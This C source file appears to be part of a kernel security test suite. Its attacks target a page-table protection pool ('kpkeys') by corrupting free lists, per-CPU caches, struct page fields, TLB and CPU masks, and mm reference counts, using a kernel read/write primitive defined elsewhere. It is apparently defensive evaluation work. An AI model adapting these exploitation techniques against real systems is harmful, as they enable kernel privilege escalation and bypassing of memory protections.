// SPDX-License-Identifier: GPL-2.0-only
/*
 * Where memory for page tables comes from: lists, caches and struct page, which
 * are ordinary memory. With kpkeys off there is no pool, and the same is done to
 * the page allocator's own lists.
 *
 * Judged, and left out: reserve[] and preallocated pages are taken only while
 * the linear map is split, by the same functions as the caches.
 */
#include "attack.h"

#include <poll.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>

#define MAX_TABLES	1600
#define MAX_LEVELS	5	/* of page tables */

/*
 * The lists
 */

/* The one that kernel memory comes from: the last that has memory, of the first node. */
static u64 zone(void)
{
	u64 node, zones, found = 0;
	unsigned int i, normal = lookup("ZONE_NORMAL");

	if (!try_lookup("contig_page_data", &node))
		node = kernel_read(lookup("node_data"));
	zones = node + lookup("pglist_data.node_zones");

	for (i = 0; i <= normal; i++) {
		u64 zone = zones + i * lookup("sizeof zone");

		if (kernel_read(zone + lookup("zone.managed_pages")))
			found = zone;
	}
	return found;
}

/*
 * As list_add(): the kernel checks lists as it takes things off them. The list
 * may change meanwhile, by a page fault of this process for one; so all is done
 * twice, first without effect, and from the start if it has changed.
 */
static void insert(u64 entry, u64 head)
{
	u64 first, writes = shared->nr_writes;
	int round = 0;

	do {
		first = kernel_read(head);
		kernel_write(first + 8, head);
		kernel_write(entry, first);
		kernel_write(entry + 8, head);
	} while (kernel_read(head) != first || round++ < 1);
	kernel_write(first + 8, entry);
	kernel_write(head, entry);
	shared->nr_writes = writes + 4;
}

/* As list_del(), of what may have been taken off its list. */
static bool take_out(u64 entry)
{
	u64 next = kernel_read(entry), prev = kernel_read(entry + 8);

	/* LIST_POISON1, or a page that is used again */
	if (next < 1 << 20 || (next ^ entry) >> 48 || prev < 1 << 20 || (prev ^ entry) >> 48 ||
	    (next | prev) & 7 || kernel_read(next + 8) != entry || kernel_read(prev) != entry)
		return false;
	restore(next + 8, prev);
	restore(prev, next);
	return true;
}

static unsigned int nr_cached(u64 cache)
{
	u64 nr = lookup("kpkeys_cache.nr");

	return kernel_read(cache + (nr & ~7ULL)) >> (nr & 4 ? 32 : 0);
}

/* The pool's caches of a CPU: of pages that are free for @level only; 0: for any. */
static u64 cache_on(int cpu, unsigned int level)
{
	return per_cpu(lookup("kpkeys_cache"), cpu) + level * lookup("sizeof kpkeys_cache");
}

static u64 cache_of(unsigned int level)
{
	return cache_on(sched_getcpu(), level);
}

static u64 cache_slot(u64 cache, unsigned int n)
{
	return cache + lookup("kpkeys_cache.pages") + 8 * n;
}

/* A free page that is in a cache of this CPU. */
static u64 free_page(void)
{
	u64 cache = cache_of(0);
	unsigned int tables = 0;

	/* An empty one is filled when the next table is needed. */
	while (!nr_cached(cache)) {
		if (++tables > MAX_TABLES)
			die("the cache has no pages");
		*(volatile char *)table_range(200 + tables) = 1;
	}
	return kernel_read(cache_slot(cache, nr_cached(cache) - 1));
}

/* So that nobody else gets the page, and is killed instead of the attacker. */
static void take_from_cache(u64 page, int cpu)
{
	unsigned int level, nr, i;

	for (level = 0; level <= MAX_LEVELS; level++) {
		u64 cache = cache_on(cpu, level);

		nr = nr_cached(cache);
		for (i = 0; i < nr; i++) {
			if (kernel_read(cache_slot(cache, i)) != page)
				continue;
			restore(cache_slot(cache, i), kernel_read(cache_slot(cache, --nr)));
			restore32(cache + lookup("kpkeys_cache.nr"), nr);
		}
	}
}

/* Makes @page the next one that becomes a page table of @level on this CPU. */
static void hand_out_next(u64 page, unsigned int level)
{
	u64 pages, count, entry = page + lookup("page.lru");

	if (protected) {
		u64 cache = cache_of(level);
		unsigned int nr = nr_cached(cache);

		if (cache_slot(cache, nr) < cache + lookup("sizeof kpkeys_cache"))
			kernel_write32(cache + lookup("kpkeys_cache.nr"), ++nr);
		kernel_write(cache_slot(cache, nr - 1), page);
		return;
	}
	pages = per_cpu(kernel_read(zone() + lookup("zone.per_cpu_pageset")), sched_getcpu());
	insert(entry, pages + lookup("per_cpu_pages.lists"));
	count = pages + lookup("per_cpu_pages.count");
	kernel_write32(count, (kernel_read(count & ~7ULL) >> (count & 4 ? 32 : 0)) + 1);
}

/*
 * To tidy up
 */

struct saved_pages {
	u64 page;		/* the first struct page */
	unsigned long nr;	/* words */
	u64 *words;
};

static void save_pages(struct saved_pages *saved, u64 page, unsigned long nr)
{
	unsigned long i;

	saved->page = page;
	saved->nr = nr * lookup("sizeof page") / 8;
	saved->words = malloc(saved->nr * 8);
	if (!saved->words)
		die("no memory");
	for (i = 0; i < saved->nr; i++)
		saved->words[i] = kernel_read(page + 8 * i);
}

static void restore_pages(const struct saved_pages *saved)
{
	unsigned long i;

	for (i = 0; i < saved->nr; i++)
		restore(saved->page + 8 * i, saved->words[i]);
}

/*
 * @table is a page table of this process that is mapped so that it can be
 * written; it translates @range. With it, any page table can be written.
 */
static void write_entry(volatile u64 *table, char *range, u64 slot, u64 value)
{
	unsigned int n = (1U << entry_bits()) - 2;

	table[n] = leaf(slot & ~(u64)(PAGE_SIZE - 1));
	flush();
	*(volatile u64 *)(range + n * PAGE_SIZE + slot % PAGE_SIZE) = value;
	table[n] = empty_entry();
	flush();
}

/* Two tables of the last level, of which only the first is made. */
static char *two_tables(unsigned int n)
{
	char *range = private_range(n);

	*(volatile char *)range = 1;
	return range;
}

/*
 * Attacks
 */

/*
 * @other is the address that the table @page, one of level 2 that has @range,
 * translates in its second life as a table of level 1. So what is mapped there
 * is a table of level 1 for @range.
 */
static int steal_with_both(char *range, char *other, u64 slot_of_other, u64 lost_slot, u64 lost)
{
	char *second = range + PMD_SIZE;
	volatile u64 *table = (u64 *)(other + PAGE_SIZE), *lost_table;
	unsigned int n = (1U << entry_bits()) - 2;
	u64 page_mask = PAGE_SIZE - 1;

	/* The fault writes entry 1, that of the second half of @range. */
	memset((void *)table, 0, PAGE_SIZE);
	flush();
	steal_with_table(table, second);

	/*
	 * The table gets back its first life. The last of these writes takes away
	 * what they are done with.
	 */
	table[n] = leaf(lost_slot);
	table[n - 1] = leaf(slot_of_other & ~page_mask);
	flush();
	lost_table = (u64 *)(second + n * PAGE_SIZE);
	lost_table[0] = lost;
	*(volatile u64 *)(second + (n - 1) * PAGE_SIZE + (slot_of_other & page_mask)) =
		empty_entry();
	lost_table[1] = empty_entry();
	flush();
	return DONE;
}

/* A table of level 2 is handed out again, as one of level 1. */
static int handed_out_again(void)
{
	char *range = two_tables(0), *other = two_tables(1) + PMD_SIZE;
	u64 slot = entry_slot(leak.pgd, range, 2), old = kernel_read(slot);
	u64 page = struct_page(slot);
	struct saved_pages saved;

	run_on_cpu(0);
	flush();
	save_pages(&saved, page, 1);
	hand_out_next(page, 1);
	steal_with_both(range, other, entry_slot(leak.pgd, other, 2), slot, old);
	restore_pages(&saved);
	return DONE;
}

/* One free page in two slots of the cache. */
static int handed_out_twice(void)
{
	char *other = two_tables(0) + PMD_SIZE, *range = private_range(1);
	struct saved_pages saved;
	u64 slot;

	run_on_cpu(0);
	if (protected) {
		u64 page = free_page();

		/* In two, and no third. */
		take_from_cache(page, 0);
		/* The first table that @range needs is one of level 2. */
		hand_out_next(page, 2);
		hand_out_next(page, 1);
	}
	*(volatile char *)other = 1;
	slot = table_of(other, 1);
	save_pages(&saved, struct_page(slot), 1);
	if (!protected)
		hand_out_next(struct_page(slot), 2);
	*(volatile char *)range = 1;
	if (entry_slot(leak.pgd, range, 2) != slot)
		return GAINED_NOTHING;
	steal_with_both(range, other, entry_slot(leak.pgd, other, 2), slot, kernel_read(slot));
	restore_pages(&saved);
	return DONE;
}

/*
 * What may get the attacker killed is done by a process that shares its memory, so
 * that this one can put struct pages back: the kernel must not trip over them when
 * it is all over.
 */
struct user_memory {
	volatile u64 *page;	/* for the kernel to take */
	char *range;		/* what needs a new table */
	char **of;		/* addresses of pages, by frame */
	unsigned long nr;	/* pages */
	char *tables;
};

/* words[]: the page is the next one */
#define GO_ON	(&shared->words[0])

static int use_ordinary_page(void *arg)
{
	struct user_memory *m = arg;
	u64 slot;

	while (!*(volatile u64 *)GO_ON)
		sched_yield();
	*(volatile char *)m->range = 1;
	slot = entry_slot(leak.pgd, m->range, 2);
	if (kernel_address(kernel_read(slot)) != address_of((void *)m->page))
		return 0;
	steal_with_table(m->page, m->range);
	write_entry(m->page, m->range, slot, empty_entry());
	return 0;
}

/* A page of user memory becomes a page table. */
static int ordinary_page(void)
{
	u64 *chunk = map_at(NULL, PAGE_SIZE, MAP_SHARED), page;
	struct user_memory m = {
		/* Locked pages are on no list of the kernel's, once there are many. */
		.page = map_at(NULL, 64 * PAGE_SIZE, MAP_SHARED | MAP_LOCKED | MAP_POPULATE),
		.range = two_tables(0) + PMD_SIZE,
	};
	struct saved_pages saved;
	pid_t pid;

	memset(chunk, 0, PAGE_SIZE);
	run_on_cpu(0);
	flush();

	page = struct_page(address_of((void *)m.page));
	save_pages(&saved, page, 1);
	if (protected) {
		u64 mapping = lookup("page.mapping");
		u64 real = kernel_read(free_page() + mapping);

		chunk[lookup("kpkeys_chunk.pool") / 8] =
			kernel_read(real + lookup("kpkeys_chunk.pool"));
		chunk[lookup("kpkeys_chunk.page") / 8] = page;
		chunk[lookup("kpkeys_chunk.nr_pages") / 8] |=
			1ULL << (lookup("kpkeys_chunk.nr_pages") & 4 ? 32 : 0);
		kernel_write(page + mapping, address_of(chunk));
	}
	/* Starting a process takes memory, too. */
	pid = start(use_ordinary_page, &m);
	hand_out_next(page, 1);
	*(volatile u64 *)GO_ON = 1;
	ended_well(pid);
	restore_pages(&saved);
	return DONE;
}

static int use_mapped_memory(void *arg)
{
	struct user_memory *m = arg;
	unsigned long i, j;

	for (j = 0; j < MAX_TABLES; j++) {
		char *range = m->tables + j * PMD_SIZE;

		*(volatile char *)range = 1;
		for (i = 0; i < m->nr; i++)
			if (*(volatile u64 *)m->of[i] != ~0ULL && *(volatile u64 *)m->of[i])
				return stay(steal_with_table((u64 *)m->of[i], range));
	}
	return 0;
}

/*
 * Memory that user space has mapped is in the page allocator's list of free
 * blocks, as after a wrong reference count. The pool takes it.
 */
static int freed_while_mapped(void)
{
	unsigned long nr = (2UL << 20) / PAGE_SIZE, total = 8 * nr, i, j, run = 0;
	u64 *frames, first = 0, area, page;
	struct user_memory m = { .nr = nr };
	struct saved_pages saved;
	char *memory;
	bool ended;

	if (!protected)
		return ordinary_page();

	memory = mmap(NULL, total * PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE |
		      MAP_ANONYMOUS | MAP_POPULATE | MAP_LOCKED, -1, 0);
	m.tables = mmap(NULL, (MAX_TABLES + 1) * PMD_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE |
			MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	m.of = malloc(nr * sizeof(*m.of));
	if (memory == MAP_FAILED || m.tables == MAP_FAILED || !m.of)
		die("cannot map memory");
	m.tables = (char *)(((uintptr_t)m.tables + PMD_SIZE - 1) & ~(PMD_SIZE - 1));
	madvise(memory, total * PAGE_SIZE, MADV_DONTFORK);
	madvise(m.tables, MAX_TABLES * PMD_SIZE, MADV_DONTFORK);
	madvise(m.tables, MAX_TABLES * PMD_SIZE, MADV_NOHUGEPAGE);

	/* A whole block of the attacker's: nothing else is to become read-only. */
	frames = frames_of(memory, total);
	for (i = 0; i < total && run < nr; i++) {
		first = frames[i];
		if (first & (nr - 1))
			continue;
		for (j = run = 0; j < total; j++) {
			if (frames[j] < first || frames[j] - first >= nr)
				continue;
			m.of[frames[j] - first] = memory + j * PAGE_SIZE;
			run++;
		}
	}
	if (run < nr)
		return not_possible("no block of contiguous memory");
	for (i = 0; i < nr; i++)
		*(volatile u64 *)m.of[i] = ~0ULL;

	/* As in a page that has been freed. */
	page = leak.memmap + first * lookup("sizeof page");
	save_pages(&saved, page, nr);
	kernel_write(page + lookup("page.memcg_data"), 0);
	area = zone() + lookup("zone.free_area") + __builtin_ctzl(nr) * lookup("sizeof free_area");
	insert(page + lookup("page.lru"), area);
	area += lookup("sizeof free_area") - 8;
	kernel_write(area, kernel_read(area) + 1);

	ended = ended_well(start(use_mapped_memory, &m));
	/* If it is still there, somebody else would take it later. */
	if (take_out(page + lookup("page.lru")))
		restore(area, kernel_read(area) - 1);
	if (!ended)
		restore_pages(&saved);
	return DONE;
}

/*
 * Memory that a CPU has in its TLB only
 */

#define NR_STALE	128	/* pages, of as many blocks as possible */
#define STALE_STEP	129	/* pages from one to the next: not in one set of the TLB */

struct stale {
	char *memory;		/* of the process that frees it */
	u64 *frames;
	char *tables;
};

/* words[]: what the process on CPU 0 writes, and where */
#define STALE_ADDR	(shared->words[1])
#define STALE_VALUE	(shared->words[2])
#define STALE_STATE	((volatile u64 *)&shared->words[3])
enum { TOUCHING, TOUCHED, FREED, WRITING, LOST, WRITTEN, ENDING };

static sigjmp_buf not_in_tlb;

static char *stale_page(const struct stale *s, unsigned int i)
{
	return s->memory + i * STALE_STEP * PAGE_SIZE;
}

static void lose(int sig)
{
	(void)sig;
	siglongjmp(not_in_tlb, 1);
}

/* On CPU 0, which nobody asks to flush its TLB; it may need the place for others. */
static int keep_in_tlb(void *arg)
{
	struct stale *s = arg;
	unsigned int i;

	signal(SIGSEGV, lose);

	run_on_cpu(0);
	poll(NULL, 0, 1);
	for (i = 0; i < NR_STALE; i++)
		*(volatile u64 *)stale_page(s, i) = 1;
	*STALE_STATE = TOUCHED;
	if (sigsetjmp(not_in_tlb, 1))
		*STALE_STATE = LOST;
	while (*STALE_STATE != ENDING) {
		if (*STALE_STATE != WRITING)
			continue;
		*(volatile u64 *)STALE_ADDR = STALE_VALUE;
		*STALE_STATE = WRITTEN;
	}
	return 0;
}

/* A process of its own: its page tables are correct, and its CPUs are forged. */
static void free_unnoticed(struct stale *s, size_t size)
{
	struct kpkeys_attack_leak l = {};
	u64 cpus, gen, old;
	pid_t pid;

	get_leak(&l, NULL);
	cpus = l.mm + lookup("mm_struct.flexible_array");
	gen = l.mm + lookup("mm_struct.context.tlb_gen");
	madvise(s->memory, size, MADV_NOHUGEPAGE);
	memset(s->memory, 1, size);
	memcpy(s->frames, frames_of(s->memory, NR_STALE * STALE_STEP),
	       NR_STALE * STALE_STEP * sizeof(*s->frames));
	pid = start(keep_in_tlb, s);
	wait_for(STALE_STATE, TOUCHED);

	kernel_write(cpus, kernel_read(cpus) & ~1ULL);
	old = kernel_read(gen);
	munmap(s->memory, size);
	/* So that CPU 0 keeps what it has even if the kernel looks. */
	kernel_write(gen, old);
	*STALE_STATE = FREED;
	waitpid(pid, NULL, 0);
	_exit(0);
}

/* In the page allocator, a block of two chunks at most. The pool is to take it next. */
static bool move_to_front(const struct stale *s)
{
	u64 nr = (2UL << 20) / PAGE_SIZE, order, page, prev, next;
	unsigned int i, j;

	for (i = 0; i < NR_STALE; i++) {
		for (j = 0; j < 2; j++) {
			order = __builtin_ctzl(nr) + j;
			page = leak.memmap + (s->frames[i * STALE_STEP] & ~((nr << j) - 1)) *
					     lookup("sizeof page");
			/* Words of 8 bytes: the type is the upper half of one. */
			if ((kernel_read(page + (lookup("page.page_type") & ~7ULL)) >>
			     (lookup("page.page_type") & 4) * 8 & 0xff000000) != 0xf0000000 ||
			    kernel_read(page + lookup("page.private")) != order)
				continue;
			next = kernel_read(page + lookup("page.lru"));
			prev = kernel_read(page + lookup("page.lru") + 8);
			kernel_write(next + 8, prev);
			kernel_write(prev, next);
			insert(page + lookup("page.lru"), zone() + lookup("zone.free_area") +
			       order * lookup("sizeof free_area"));
			return true;
		}
	}
	return false;
}

static int use_stale_table(void *arg)
{
	struct stale *s = arg;
	unsigned int last = (1U << entry_bits()) - 1, i, j;

	for (j = 0; j < MAX_TABLES; j++) {
		char *range = s->tables + j * PMD_SIZE;
		u64 entry;

		/* Memory that is read, and never written, takes page tables only. */
		(void)*(volatile char *)range;
		entry = kernel_address(kernel_read(entry_slot(leak.pgd, range, 2)));
		for (i = 0; i < NR_STALE; i++) {
			if (leak.linear_offset + s->frames[i * STALE_STEP] * PAGE_SIZE != entry)
				continue;
			STALE_ADDR = (uintptr_t)stale_page(s, i) + last * 8;
			STALE_VALUE = leaf(leak.secret);
			*STALE_STATE = WRITING;
			while (*STALE_STATE == WRITING)
				usleep(1000);
			if (*STALE_STATE == LOST)
				break;
			steal_from(range + last * PAGE_SIZE);
			return 0;
		}
	}
	return 0;
}

/*
 * A page is unmapped and freed, but a CPU keeps it in its TLB, because the lists of CPUs say
 * that it has nothing to flush, or is offline. The page becomes a page table.
 */
static int stale_mapping(void)
{
	size_t size = NR_STALE * STALE_STEP * PAGE_SIZE;
	u64 online = lookup("__cpu_online_mask");
	bool taken, not_found = false;
	struct stale s;
	pid_t pid;

	if (!on_arch("x86_64"))
		return not_possible("no CPU is asked to flush its TLB");
	if (!protected)
		return steal_by_write(own_page_slot());

	run_on_cpu(1);
	s.memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	s.frames = mmap(NULL, NR_STALE * STALE_STEP * sizeof(*s.frames), PROT_READ | PROT_WRITE,
			MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	s.tables = mmap(NULL, (MAX_TABLES + 1) * PMD_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE |
			MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (s.memory == MAP_FAILED || s.frames == MAP_FAILED || s.tables == MAP_FAILED)
		die("cannot map memory");
	s.tables = (char *)(((uintptr_t)s.tables + PMD_SIZE - 1) & ~(PMD_SIZE - 1));
	madvise(s.tables, MAX_TABLES * PMD_SIZE, MADV_DONTFORK);
	madvise(s.tables, MAX_TABLES * PMD_SIZE, MADV_NOHUGEPAGE);

	pid = fork();
	if (!pid)
		free_unnoticed(&s, size);
	while (*STALE_STATE == TOUCHING)
		usleep(1000);
	kernel_write(online, kernel_read(online) & ~1ULL);
	wait_for(STALE_STATE, FREED);
	taken = move_to_front(&s);
	if (taken)
		not_found = ended_well(start(use_stale_table, &s)) && *STALE_STATE != WRITTEN;
	restore(online, kernel_read(online) | 1);
	*STALE_STATE = ENDING;
	waitpid(pid, NULL, 0);
	/* Else it would seem to have been stopped. */
	if (!taken || not_found)
		die("the pool does not take what was freed");
	return stay(DONE);
}

/* A live page table is in the list of those that lose their pkey. */
static int untagged(void)
{
	u64 page = struct_page(own_page_slot());
	char *range;

	if (protected) {
		range = two_tables(0);
		insert(page + lookup("page.lru"), lookup("unpooled_free_list"));
		/* Freeing this one starts the work. */
		kernel_write(struct_page(table_of(range, 1)) + lookup("page.mapping"),
			     lookup("unpooled_chunk"));
		munmap(range, 2 * PMD_SIZE);
		usleep(500000);
	}
	return stay(steal_by_write(own_page_slot()));
}

#define X86_PKEY_BITS	(0xfULL << 59)

static int use_many_tables(void *tables)
{
	unsigned int i;

	run_on_cpu(0);
	for (i = 0; i < MAX_TABLES; i++)
		((volatile char *)tables)[i * PMD_SIZE] = 1;
	own_page_move(0);
	return steal_as_helper(NULL);
}

/*
 * The bits that an entry can have, by what x86 knows of the CPU: without those of
 * the pkey. Memory that enters the pool is to be tagged, then.
 */
static int entry_mask(void)
{
	u64 mask, old;
	char *tables;
	bool won;

	if (!on_arch("x86_64"))
		return not_possible("there is no such mask");
	tables = mmap(NULL, MAX_TABLES * PMD_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE |
		      MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (tables == MAP_FAILED)
		die("cannot map memory");
	madvise(tables, MAX_TABLES * PMD_SIZE, MADV_DONTFORK);
	madvise(tables, MAX_TABLES * PMD_SIZE, MADV_NOHUGEPAGE);

	mask = lookup("__supported_pte_mask");
	old = kernel_read(mask);
	kernel_write(mask, old & ~X86_PKEY_BITS);
	won = steal_with_helper_in(start(use_many_tables, tables), 20);
	restore(mask, old);
	return won ? DONE : GAINED_NOTHING;
}

static u64 chunk_of(const void *addr)
{
	return kernel_read(struct_page(table_of(addr, 1)) + lookup("page.mapping"));
}

/* The pool keeps memory of early boot for ever. */
static bool is_boot_chunk(u64 chunk)
{
	u64 boot = chunk + lookup("kpkeys_chunk.boot");

	return kernel_read(boot & ~7ULL) >> (boot & 7) * 8 & 0xff;
}

/* A chunk with live page tables is empty, if one believes its counter. */
static int released(void)
{
	u64 chunk, first = 0, counts, word, nr_free = lookup("kpkeys_chunk.nr_free");
	unsigned int i = 0, n = 0, more;
	char *tables;

	if (!protected)
		return steal_by_write(own_page_slot());

	run_on_cpu(0);
	tables = mmap(NULL, MAX_TABLES * PMD_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE |
		      MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (tables == MAP_FAILED)
		die("cannot map memory");
	madvise(tables, MAX_TABLES * PMD_SIZE, MADV_DONTFORK);
	madvise(tables, MAX_TABLES * PMD_SIZE, MADV_NOHUGEPAGE);

	for (;;) {
		own_page_move(n++);
		chunk = chunk_of(own_page());
		first = first ?: chunk;
		/* After it, so that it has neighbours to be freed. */
		for (more = 0; more < 64; more++)
			tables[i++ * PMD_SIZE] = 1;
		/* A new one: what others need is not to be freed. */
		if (chunk != first && !is_boot_chunk(chunk))
			break;
		if (i + 64 > MAX_TABLES)
			return not_possible("all page tables are in chunks that stay");
	}

	counts = chunk + (nr_free & ~7ULL);
	word = kernel_read(counts);
	if (nr_free & 4)
		word = (word & 0xffffffff) | ((word & 0xffffffff) - 1) << 32;
	else
		word = (word & ~0xffffffffULL) | ((word >> 32) - 1);
	kernel_write(counts, word);
	/* More than fit into the cache. */
	munmap(tables, MAX_TABLES * PMD_SIZE);
	usleep(100000);
	write_file("/proc/sys/vm/drop_caches", "2");
	return stay(steal_by_write(own_page_slot()));
}

/*
 * A root that is freed while a CPU has it loaded
 */

/* words[]: the process that uses it */
#define USER_MM		(shared->words[1])
#define USER_ROOT	(shared->words[2])
#define USER_TASK	(shared->words[3])
#define USER_STATE	((volatile u64 *)&shared->words[4])
enum { STARTING, READY, READING, LEAVING, GONE };

static void copy_text(const volatile char *from)
{
	volatile char *to = shared->text;
	unsigned int i;

	for (i = 0; i < sizeof(shared->text) - 1; i++)
		to[i] = from[i];
}

/*
 * On CPU 0. Once its root is freed, it needs what is in its TLB only, and it never exits:
 * the kernel takes its mm for one that is gone.
 */
static void use_root(const char *target)
{
	struct kpkeys_attack_leak l = {};

	setpgid(0, 0);
	run_on_cpu(0);
	get_leak(&l, NULL);
	USER_TASK = l.task;
	USER_MM = l.mm;
	USER_ROOT = l.pgd;
	copy_text(shared->why);
	poll(NULL, 0, 1);
	*USER_STATE = READY;
	while (*USER_STATE == READY)
		;
	if (*USER_STATE == READING)
		copy_text(target);
	*USER_STATE = GONE;
	poll(NULL, 0, -1);
}

/* What is written to a pipe is in pages that the kernel has not cleared before. */
static bool fill_free_page(u64 addr, const u64 *words, unsigned int differs)
{
	int pipes[2], i, j;

	for (i = 0; i < 32; i++) {
		if (pipe(pipes))
			die("no pipe");
		for (j = 0; j < 16; j++) {
			if (write(pipes[1], words, PAGE_SIZE) != (ssize_t)PAGE_SIZE)
				die("cannot write to a pipe");
			if (kernel_read(addr + 8 * differs) == words[differs])
				return true;
		}
	}
	return false;
}

struct freed_root {
	char *target;
	const u64 *root;	/* as it was, and one entry for the target */
	char *range;	/* what needs a new table */
	bool used;
};

/*
 * It becomes a table of the last level. What that maps is a table for who has it as a root,
 * who needs copies of what was there if it is loaded.
 */
static int use_root_as_table(void *arg)
{
	struct freed_root *r = arg;
	unsigned int index = entry_index(r->target, leak.levels), nr = 1U << entry_bits(), i, j;
	u64 *table = (u64 *)(r->range + index * PAGE_SIZE), **copies = calloc(nr, sizeof(*copies));

	if (!copies)
		die("no memory");
	for (i = 0; i < nr && on_arch("arm64"); i++) {
		if (!r->root[i] || i == index)
			continue;
		copies[i] = malloc(PAGE_SIZE);
		for (j = 0; j < nr && copies[i]; j++)
			copies[i][j] = kernel_read(kernel_address(r->root[i]) + 8 * j);
	}

	hand_out_next(struct_page(USER_ROOT), 1);
	table[0] = 0;
	for (i = 0; i < nr; i++)
		if (copies[i])
			memcpy(r->range + i * PAGE_SIZE, copies[i], PAGE_SIZE);
	map_secret(table, r->target);
	r->used = kernel_address(kernel_read(entry_slot(leak.pgd, table, 2))) == USER_ROOT;
	return 0;
}

/*
 * The count of those who use an mm: it is 1, says the attacker, when a reference goes
 * that is not the last one. So the root is freed, and used again.
 */
static int root_freed(void)
{
	u64 *root = malloc(PAGE_SIZE);
	struct freed_root r = {
		.target = free_address(5), .root = root, .range = two_tables(0) + PMD_SIZE,
	};
	unsigned int index = entry_index(r.target, leak.levels), i;
	u64 *table = map_at(NULL, PAGE_SIZE, MAP_SHARED), count;
	bool dead = false;
	char path[32];
	pid_t pid;
	int fd;

	if (on_arch("um"))
		return not_possible("no CPU walks page tables");
	if (!root)
		die("no memory");
	run_on_cpu(1);
	pid = fork();
	if (!pid) {
		use_root(r.target);
		_exit(1);
	}
	wait_for(USER_STATE, READY);

	memset(table, 0, PAGE_SIZE);
	map_secret(table, r.target);
	for (i = 0; i < 1U << entry_bits(); i++)
		root[i] = kernel_read(USER_ROOT + 8 * i);
	root[index] = link_to(address_of(table), leak.levels);

	count = USER_MM + lookup("mm_struct.mm_count");
	sprintf(path, "/proc/%d/mem", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		die("%s: %s", path, strerror(errno));
	kernel_write32(count, 1);
	close(fd);
	/* It must not be freed once more, not even if the process dies. */
	restore32(count, 1000);
	restore32(USER_MM + lookup("mm_struct.mm_users"), 1000);
	if (protected)
		take_from_cache(struct_page(USER_ROOT), 1);

	r.used = fill_free_page(USER_ROOT, root, index);
	if (!r.used && on_arch("arm64"))
		ended_well(start(use_root_as_table, &r));
	*USER_STATE = r.used ? READING : LEAVING;
	/* It dies if it needs what is not in its TLB any more. */
	while (*USER_STATE != GONE && !dead) {
		usleep(1000);
		dead = waitpid(pid, NULL, WNOHANG) == pid;
	}
	steal_from(shared->text);
	if (r.used)
		stay(DONE);
	/* From now on, no CPU has that root, and no process that mm. */
	run_on_cpu(0);
	switch_away();
	if (!dead)
		restore(USER_TASK + lookup("task_struct.mm"), 0);
	/* On x86, a root maps the kernel, too. */
	if (!r.used && on_arch("x86_64"))
		ended_well(start(use_root_as_table, &r));
	return DONE;
}

const struct attack pool[] = {
	{ "pool-slot-twice", "a slot of the cache: a free page that is in it already",
	  handed_out_twice },
	{ "pool-slot-live", "a slot of the cache, and the bit that says that the page is in use",
	  handed_out_again },
	{ "pool-slot-user", "a slot of the cache, and a chunk: a page of user memory",
	  ordinary_page },
	{ "free-list", "the page allocator's list of free blocks: user memory",
	  freed_while_mapped },
	{ "cpu-list", "the CPUs that are online, or use an mm: one has a freed page in its TLB",
	  stale_mapping },
	{ "pool-entry-mask", "the mask of the bits that an entry can have", entry_mask },
	{ }
};

/* Last, because live page tables are freed if these win. */
const struct attack releases[] = {
	{ "root-freed", "the count of an mm's users: its root is freed while it is used",
	  root_freed },
	{ "pool-release", "a chunk's number of free pages", released },
	{ "pool-untag", "the list of tables to be freed: a live one", untagged },
	{ }
};
